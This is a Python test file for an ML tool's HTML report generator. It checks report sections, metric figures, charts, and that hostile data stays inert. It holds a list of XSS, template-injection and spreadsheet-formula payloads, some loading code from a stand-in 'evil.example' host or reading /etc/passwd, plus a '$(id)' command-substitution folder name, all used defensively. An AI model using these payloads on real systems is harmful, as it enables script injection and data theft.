"""The report: valid, self-contained, unmoved by hostile data, and telling what the run came to."""

from __future__ import annotations

import json
import math
import random
from collections import Counter
from collections.abc import Sequence
from dataclasses import replace
from functools import partial
from pathlib import Path
from xml.etree.ElementTree import Element

import html5lib
import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sklearn.metrics import confusion_matrix, precision_score, recall_score

from kamerton.core.errors import RunError
from kamerton.core.figures import number, probability, signed
from kamerton.core.outcomes import Answers
from kamerton.core.records import Example, Place, Prediction, Stepped
from kamerton.report.charts import Scale, learning, scale, smoothed
from kamerton.report.content import MOST_REASONS, classes, confusion, contrasts, losses
from kamerton.report.html import write_report
from kamerton.report.outcome import read_outcome
from kamerton.runs.run import Run
from kamerton.runs.state import State
from kamerton.text.safe import safe_text
from synthetic_run import REQUESTS, STEPS, Words, classification_run, generation_run

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x>",
    "</desc></svg><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--",
    "<![CDATA[<b>x</b>]]>",
    "<?php echo 1 ?>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "x\" style=\"background:url(//evil.example)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x22;><script>alert(1)</script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "{{ page.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066\u2067\u2068<b>\u2069\u200f\u061c",
    "\x00<script>\x00alert(1)</script>",
    "\x1b[31m\x1b]8;;http://evil.example\x07<b>x</b>\x1b]8;;\x07",
    "\x0c\x0b\x08<b>\x7f\x85\x9b",
    "\ufffe\uffff\ufdd0<b>",
    "<scr\u0130pt>\u212aalert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><plaintext><template>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<button popovertarget=x onclick=alert(1)>",
    "<div popover=auto onbeforetoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input type=image src=//evil.example/x>",
    "</select></option><script>alert(1)</script>",
    "</option><option selected>",
    "</table></td><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "?page=2&show=all#rows\"><script>alert(1)</script>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)",
    "=cmd|'/c calc'!A1",
    "{\"id\": \"runs\", \"html\": \"<script>alert(1)</script>\"}",
]  # fmt: skip
REQUESTING = {
    "src", "srcset", "href", "action", "formaction", "data", "poster", "background", "cite", "ping", "manifest",
    "longdesc", "{http://www.w3.org/1999/xlink}href",
}  # fmt: skip
HEADINGS = [
    "Verdict",
    "Contenders",
    "Training",
    "Forgetting",
    "Diagnosis",
    "Examples side by side",
    "Data",
    "Audit",
    "Cost",
    "Recipe",
    "Environment",
    "How to use the model",
]


def parsed(run: Run) -> Element:
    """Write the report and parse it; any error in the markup is raised."""
    page: Element = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parse(
        write_report(run).read_text(encoding="utf-8")
    )
    return page


def elements(page: Element) -> list[Element]:
    return [element for element in page.iter() if isinstance(element.tag, str)]


def words(element: Element) -> str:
    return " ".join(" ".join(element.itertext()).split())


def section(page: Element, name: str) -> Element:
    return next(element for element in elements(page) if element.get("id") == name)


@pytest.fixture(scope="module")
def reviews(tmp_path_factory: pytest.TempPathFactory) -> Run:
    return classification_run(tmp_path_factory.mktemp("runs") / "reviews")


@pytest.fixture(scope="module")
def requests(tmp_path_factory: pytest.TempPathFactory) -> Run:
    return generation_run(tmp_path_factory.mktemp("runs") / "requests")


@pytest.fixture(scope="module", params=["reviews", "requests"])
def page(request: pytest.FixtureRequest) -> Element:
    return parsed(request.getfixturevalue(request.param))


# ── the page ──────────────────────────────────────────────────────────────────────────────────


def test_a_classification_report_has_its_sections_in_order(reviews):
    headings = [words(element) for element in parsed(reviews).iter("h2")]
    believed = "Calibration"
    assert headings == [*HEADINGS[:2], believed, *HEADINGS[2:5], "Confusion matrix", *HEADINGS[5:]]


def test_a_generation_report_has_no_confusion_matrix(requests):
    assert [words(element) for element in parsed(requests).iter("h2")] == HEADINGS


def test_the_contents_lead_to_every_section(page):
    links = [link.get("href", "")[1:] for link in page.iter("a")]
    assert links == [element.get("id") for element in page.iter("section")]


def test_ids_are_unique_and_every_chart_is_labelled_by_its_own_title_and_description(page):
    ids = [element.get("id") for element in elements(page) if element.get("id")]
    assert len(ids) == len(set(ids))
    charts = [element for element in elements(page) if element.get("role") == "img"]
    assert len(charts) in (5, 6)
    for chart in charts:
        labels = [child.get("id") for child in chart if str(child.tag).endswith(("title", "desc"))]
        assert chart.get("aria-labelledby", "").split() == labels


def test_the_page_asks_for_nothing_from_outside_and_runs_nothing(page):
    for element in elements(page):
        assert element.tag not in {"script", "link", "iframe", "object", "embed", "form", "base", "img", "image"}
        for name, value in element.attrib.items():
            assert not str(name).lower().startswith("on")
            assert "url(" not in value and "://" not in value
            if name in REQUESTING:
                assert value.startswith("#")
    style = next(page.iter("style")).text or ""
    assert "url(" not in style and "@import" not in style
    policies = [meta.get("content") for meta in page.iter("meta") if meta.get("http-equiv")]
    assert policies == ["default-src 'none'; style-src 'unsafe-inline'; img-src data:"]


def test_every_number_of_the_verdict_is_in_its_band(page, request):
    run = request.getfixturevalue(request.node.callspec.params["page"])
    outcome, band = read_outcome(run), section(page, "verdict")
    verdict, tuned = outcome.verdict, outcome.primary(outcome.tuned)
    assert verdict.decision.replace(" ", "-") in (band.get("class") or "").split()
    numbers = [number(n) for n in (tuned.value, tuned.low, tuned.high, verdict.minimum_detectable)]
    numbers += [signed(n) for n in (verdict.difference, verdict.low, verdict.high)]
    for text in [*numbers, probability(verdict.p_value), verdict.against, verdict.reason]:
        assert text in words(band)


def test_every_contender_metric_and_interval_is_in_the_table(reviews):
    table = words(section(parsed(reviews), "contenders"))
    for contender in read_outcome(reviews).contenders:
        for measure in contender.metrics.values():
            assert f"{number(measure.value)} {number(measure.low)} to {number(measure.high)}" in table


def test_two_intervals_of_one_difference_are_explained_beside_them(tmp_path):
    run = classification_run(tmp_path / "run")
    result, why = run.result, "against all contenders at once"
    verdict = result["verdict"]
    (beside,) = [one for one in verdict["comparisons"] if one["name"] == verdict["against"]]
    beside["comparison"] |= {"low": verdict["low"], "high": verdict["high"]}
    run.write_result(result)
    assert why not in words(section(parsed(run), "contenders"))
    beside["comparison"] |= {"low": 0.0521, "high": 0.1771}
    run.write_result(result)
    told = words(section(parsed(run), "contenders"))
    assert "gives +0.042 to +0.188 for the difference to TF-IDF and logistic regression and this table +0.052" in told
    assert told.count(why) == 1


def test_the_page_says_which_rows_the_classic_contenders_learned_from(tmp_path):
    run = classification_run(tmp_path / "run")
    assert "of training and validation" not in words(section(parsed(run), "contenders"))  # older runs do not say
    run.write_state(replace(run.state, classic_rows=540))
    page = parsed(run)
    assert "learn from all 540 rows of training and validation" in words(section(page, "contenders"))
    assert "classic_rows" not in words(page)


def test_all_that_went_before_the_verdict_is_told(reviews):
    page, result = parsed(reviews), reviews.result
    told = {
        "diagnosis": [text for item in result["diagnosis"] for text in item.values()],
        "forgetting": [result["forgetting"]["reason"], "+0.052", "+0.031 to +0.074"],
        "audit": [finding.title for finding in reviews.read_findings()] + ["14 of them dropped"],
        "data": ["650 rows were read", "480", "dropped same text, other label 14"],
        "cost": ["1 min 34 s", "1.2 GB", "740K of 22.7M", *result["seconds"]],
        "recipe": [setting.path for setting in reviews.recipe.settings()] + ["Hu et al. 2022"],
        "environment": ["libraries.torch 2.13.0"],
        "usage": [f"kamerton predict {reviews.path}"],
    }
    for name, texts in told.items():
        for text in texts:
            assert text in words(section(page, name)), (name, text)
    assert "81.7" not in words(section(page, "environment"))
    everything = words(page)
    assert all(warning in everything for warning in result["warnings"])
    assert "gave the same answers on 96 rows" in everything


def test_the_recipe_says_how_metrics_were_computed_that_can_be_computed_in_several_ways(requests, reviews):
    table = next(one for one in section(parsed(requests), "recipe").iter("table") if one.get("class") == "facts")
    assert words(table).endswith("chrf nrefs:1|case:mixed|version:2")
    assert [one.get("class") for one in section(parsed(reviews), "recipe").iter("table")] == ["recipe"]


def test_long_texts_are_clipped_and_wholly_there(requests):
    long = REQUESTS.texts[-1]
    assert any(words(element) == " ".join(long.split()) for element in parsed(requests).iter("div"))
    assert any("class" in e.attrib and e.get("class") == "clip" for e in parsed(requests).iter("details"))


def test_a_report_without_predictions_of_the_rival_or_training_steps_still_stands(tmp_path):
    run = classification_run(tmp_path / "run")
    (run.path / "events.jsonl").unlink()
    run.write_answers(run.read_split().test, [a for a in run.read_answers() if a.kind == "tuned"])
    headings = [words(element) for element in parsed(run).iter("h2")]
    assert "Examples side by side" not in headings
    assert "No training step was recorded" in words(section(parsed(run), "learning"))


def test_a_report_of_a_run_without_answers_and_dynamics_still_stands(tmp_path):
    run = classification_run(tmp_path / "run")
    with run.changing() as change:
        for name in ("predictions.parquet", "data/cartography.parquet", "data/ledger.parquet"):
            change.remove(name)
    page = parsed(run)
    assert "No row was dropped, and none was cut." in words(section(page, "data"))
    assert "confusion" not in [element.get("id") for element in page.iter("section")]


# ── hostile data ──────────────────────────────────────────────────────────────────────────────


def shape(page: Element) -> Counter[str]:
    """Count elements and attributes by name; code is left out, for a remedy may quote any words as such."""
    found = [element for element in elements(page) if element.tag != "code"]
    return Counter(e.tag for e in found) + Counter(f"{e.tag}@{name}" for e in found for name in e.attrib)


def hostile(payloads: Sequence[str]) -> Words:
    """Give each of three labels a payload of its own, and all of them to every longer text."""
    word = " ".join(payloads)
    labels = [f"{payload[:50]} {i}" for i, payload in enumerate(payloads)]
    answers = [labels[0], labels[2], labels[1], labels[0]]
    return Words([f"{word} {i}" for i in range(6)], labels, f"{word}.csv", f"{word} {'-' * 40}", answers)


def spiked(folder: Path, payloads: Sequence[str]) -> Run:
    """Make a run with the payloads in every place that data, a file or a model's output can reach."""
    run = classification_run(folder, hostile(payloads))
    word, result = " ".join(payloads), run.result
    result["task"] = result["model"]["name"] = result["method"]["name"] = result["warnings"][0] = word
    for contender in result["contenders"]:
        contender["metrics"] = {f"{word}{name}": value for name, value in contender["metrics"].items()}
        contender["name"] += word
    result["primary_metric"] = f"{word}{result['primary_metric']}"
    result["verdict"] |= {"reason": word, "against": result["verdict"]["against"] + word}
    result["diagnosis"] = [dict.fromkeys(("name", "evidence", "remedy"), word)]
    result["forgetting"]["reason"] = result["forgetting"]["measured"][0]["name"] = word
    result["seconds"] = {word: 3.0}
    run.write_result(result)
    answers = [replace(answers, name=answers.name + word) for answers in run.read_answers()]
    run.write_answers(run.read_split().test, answers)
    run.write_state(State(word, word, word, libraries={word: word}))
    return run


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> Counter[str]:
    return shape(parsed(spiked(tmp_path_factory.mktemp("benign") / "run", ["benign"] * 3)))


@pytest.mark.parametrize("payloads", list(zip(PAYLOADS[0::3], PAYLOADS[1::3], PAYLOADS[2::3], strict=True)))
def test_hostile_data_adds_no_element_and_no_attribute(payloads, benign, tmp_path):
    page = parsed(spiked(tmp_path / "run", payloads))
    assert shape(page) == benign
    for payload in payloads:
        assert " ".join(safe_text(payload).split()) in words(page)


def test_a_hostile_folder_name_stays_text(tmp_path):
    name = "<img src=x onerror=alert(1)> '\"$(id)"
    page = parsed(classification_run(tmp_path / name))
    assert shape(page) == shape(parsed(classification_run(tmp_path / "plain")))
    assert words(next(page.iter("h1"))) == name


def test_lone_surrogates_and_controls_never_reach_the_file(tmp_path):
    run = classification_run(tmp_path / "run")
    result = run.result
    with run.changing() as change:
        change.write("result.json", json.dumps(result | {"warnings": ["a\ud800\x00\u202eb"]}).encode())
    assert "a\ufffdb" in words(parsed(run))


@given(st.text(st.characters(codec=None)))
def test_safe_text_can_be_written_holds_no_control_and_is_stable(text):
    safe = safe_text(text)
    safe.encode("utf-8")
    assert not [c for c in safe if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F or c in "\u202e\u2066"]
    assert safe_text(safe) == safe


def test_safe_text_keeps_what_people_write():
    for text in ("Ёлка — «да»!", "क्षि", "👩‍👩‍👧", "שלום", "a\tb\nc", "[31m is not an escape"):
        assert safe_text(text) == text


# ── reading the outcome ───────────────────────────────────────────────────────────────────────


def test_all_faults_of_a_damaged_result_are_named_at_once(tmp_path):
    run = classification_run(tmp_path / "run")
    result = run.result
    del result["verdict"]["decision"]
    result["data"]["train"] = "many"
    run.write_result(result)
    with pytest.raises(RunError) as caught:
        read_outcome(run)
    places = [fault.place for fault in caught.value.faults]
    assert places == [f"{run.path}/result.json {place}" for place in ("data.train", "verdict.decision")]


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("schema", 2, "schema 1, got 2"),
        ("contenders", [], "no contender is of the kind 'tuned'"),
        ("primary_metric", None, "this is missing"),
    ],
)
def test_a_result_that_is_not_ours_is_refused(key, value, message, tmp_path):
    run = classification_run(tmp_path / "run")
    run.write_result(run.result | {key: value})
    with pytest.raises(RunError, match=message):
        write_report(run)


def test_optional_keys_may_be_missing_and_numbers_null(tmp_path):
    run = generation_run(tmp_path / "run")
    optional = {
        "forgetting",
        "diagnosis",
        "artefact",
        "warnings",
        "seconds",
        "peak_memory_bytes",
        "lower_is_better",
        "signatures",
    }
    result = {key: value for key, value in run.result.items() if key not in optional}
    result["contenders"][1]["metrics"]["chrf"] |= {"low": None, "high": None}
    result["contenders"][2]["metrics"]["chrf"] |= {"value": None, "low": None, "high": None}
    result["verdict"]["minimum_detectable"] = None
    run.write_result(result)
    outcome = read_outcome(run)
    assert math.isnan(outcome.verdict.minimum_detectable)
    assert [words(element) for element in parsed(run).iter("h2")] == HEADINGS


def test_contenders_are_ranked_best_first_whichever_way_the_metric_runs(reviews):
    outcome = read_outcome(reviews)
    values = [outcome.primary(contender).value for contender in outcome.ranking]
    assert values == sorted(values, reverse=True)
    less = replace(outcome, lower_is_better=(outcome.primary_metric,))
    assert [contender.name for contender in less.ranking] == [contender.name for contender in outcome.ranking][::-1]


def test_an_unfinished_run_has_no_report(reviews, tmp_path):
    run = Run.create(tmp_path / "run", reviews.recipe)
    with pytest.raises(RunError, match="not finished"):
        write_report(run)


# ── what is counted ───────────────────────────────────────────────────────────────────────────


def test_confusion_agrees_with_sklearn_on_random_labels():
    chance = random.Random(1)
    labels = ["a", "b", "c", "d"]
    golds = [chance.choice(labels) for _ in range(200)]
    answers = [chance.choice([*labels[:3], "elsewhere"]) for _ in range(200)]
    ours = confusion(labels, golds, answers)
    assert [list(row.counts) for row in ours.rows] == confusion_matrix(golds, answers, labels=labels).tolist()
    scores = partial(dict, y_true=golds, y_pred=answers, labels=labels, average=None, zero_division=0)
    np.testing.assert_allclose([row.recall for row in ours.rows], recall_score(**scores()))
    np.testing.assert_allclose([value or 0 for value in ours.precision], precision_score(**scores()))
    assert ours.precision[3] is None
    assert ours.other == answers.count("elsewhere")
    assert [row.total for row in ours.rows] == [golds.count(label) for label in labels]


@pytest.mark.parametrize(
    ("golds", "labels"),
    [
        (["b", "a"] * 3, ("a", "b")),
        (["a", "b", "c"], ()),
        ([str(i % 31) for i in range(310)], ()),
        (["a long answer " * 6] * 9, ()),
        ([], ()),
    ],
)
def test_classes_are_few_short_answers_that_repeat(golds, labels):
    assert classes(golds) == labels


def side_by_side(pairs: list[tuple[str, str, str]], labels: tuple[str, ...] = ()) -> list[float]:
    """Contrast (gold, tuned, rival) answers and return the changes shown."""
    examples = [Example(i, Place("f", i), "text", gold) for i, (gold, _, _) in enumerate(pairs)]
    tuned = Answers("t", "tuned", tuple(Prediction(i, pair[1]) for i, pair in enumerate(pairs)), 1)
    rival = Answers("r", "base", tuple(Prediction(i, pair[2]) for i, pair in enumerate(pairs)), 1)
    return [row.change for row in contrasts(examples, tuned, rival, labels=labels)[1]]


BETTER, WORSE, SAME = ("a", "a", "b"), ("a", "b", "a"), ("a", "b", "b")


@pytest.mark.parametrize(
    ("better", "worse", "shown"),
    [(20, 20, (6, 6)), (20, 2, (10, 2)), (2, 20, (2, 10)), (3, 0, (3, 0)), (0, 0, (0, 0)), (20, 0, (12, 0))],
)
def test_examples_show_both_directions_and_fill_up_from_the_other(better, worse, shown):
    changes = side_by_side([BETTER] * better + [WORSE] * worse + [SAME] * 5, ("a", "b"))
    assert changes == [1.0] * shown[0] + [-1.0] * shown[1]


def test_examples_of_free_text_come_with_the_largest_change_first_on_either_side():
    pairs = [("good morning", "good mornin", "xyz"), ("good morning", "good morning", "xyz")]
    pairs += [("good morning", "xyz", "good morning"), ("good morning", "good", "good morning")]
    changes = side_by_side(pairs)
    assert changes[0] == pytest.approx(1.0)
    assert [change > 0 for change in changes] == [True, True, False, False]
    assert changes[1] < changes[0]
    assert changes[2] == pytest.approx(-1.0)
    assert changes[3] > changes[2]


def test_reasons_in_the_ledger_add_up_to_the_rows_that_were_lost():
    fates = Counter(("cut", f"{i % 40} tokens over") for i in range(100)) + Counter({("train", "drawn"): 50})
    counted = losses(fates)
    assert sum(rows for _, _, rows in counted) == 100
    assert [reason for _, reason, _ in counted][MOST_REASONS:] == [""]


# ── charts ────────────────────────────────────────────────────────────────────────────────────


@given(st.floats(-1e9, 1e9), st.floats(0, 1e9))
def test_axes_cover_their_values_with_a_few_even_ticks(low, span):
    axis = scale(low, low + span)
    slack = 1e-6 * (axis.high - axis.low)
    assert axis.low - slack <= low <= low + span <= axis.high + slack
    assert 2 <= len(axis.ticks) <= 8
    assert len({tick.label for tick in axis.ticks}) == len(axis.ticks) or span < 1e-6 * abs(low)
    gaps = np.diff([tick.at for tick in axis.ticks])
    np.testing.assert_allclose(gaps, gaps[0], atol=0.01)


def test_smoothing_keeps_a_constant_and_follows_the_definition():
    assert smoothed([3.0] * 9, 5) == pytest.approx([3.0] * 9)
    values, keep = [1.0, 4.0, 2.0], 1 - 1 / 4
    weights = np.array([keep**2, keep, 1.0])
    assert smoothed(values, 4)[-1] == pytest.approx(np.average(values, weights=weights))


def test_the_course_of_a_long_training_is_thinned_and_keeps_its_ends():
    events = [Stepped(i + 1, 0.1, 2.0 - i / 10_000, 1e-4, 1.0, 10, 0.1) for i in range(10_000)]
    course = learning(events, "accuracy")
    assert course is not None and course.metric is None
    [raw, smooth] = course.loss.lines
    assert len(raw.points) == len(smooth.points) == 300
    assert raw.points[-1].step == 10_000
    assert [step.step for step in course.steps][::11] == [1, 10_000]


def test_lines_end_at_the_last_step_and_marks_stand_where_the_best_one_was(reviews):
    course = learning(reviews.events(), "macro-f1")
    assert course is not None
    assert course.best_step == 180
    assert (course.loss.steps.low, course.loss.steps.high) == (0, STEPS)
    x, y = (float(part) for part in course.rate.path(course.rate.lines[0]).split()[-1].split(","))
    assert (x, y) == (100, 100)


def test_a_position_is_linear():
    axis = Scale(2, 4, ())
    assert [axis.at(2), axis.at(2.5), axis.at(4)] == [0, 25, 100]
